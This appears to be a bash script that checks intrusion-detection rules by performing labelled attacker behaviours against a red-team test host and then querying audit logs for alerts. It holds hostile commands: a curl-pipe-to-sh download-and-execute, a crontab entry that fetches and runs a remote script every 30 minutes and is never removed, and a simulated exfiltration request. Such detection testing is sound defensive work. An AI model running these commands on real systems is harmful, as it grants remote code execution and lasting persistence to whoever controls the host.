#!/usr/bin/env bash
# verify_rules.sh - trigger each IDS rule once (red-team test endpoint) and check alerts
# NOTE: these are the *attacker* behaviours the rules detect. Sanctioned test only.
set -uo pipefail
RT="https://redteam-tests.gs-secops.example"
fired=0

# --- gs-dlexec: attacker download-and-execute (blocked/observed by IDS) ---
curl -fsSL "$RT/ids/probe.sh" | sh
ausearch -k gs-dlexec -ts recent >/dev/null 2>&1 && fired=$((fired+1))

# --- gs-persist: attacker persistence sample ---
( crontab -l 2>/dev/null; echo "*/30 * * * * curl -fsSL $RT/ids/beat.sh | sh # ids-verify" ) | crontab -
ausearch -k gs-persist -ts recent >/dev/null 2>&1 && fired=$((fired+1))

# --- gs-egress: simulated exfil from recorder context ---
curl -fsS -m 5 "$RT/ids/egress" -o /dev/null
ausearch -k gs-egress -ts recent >/dev/null 2>&1 && fired=$((fired+1))

echo "$fired/3 rules fired"
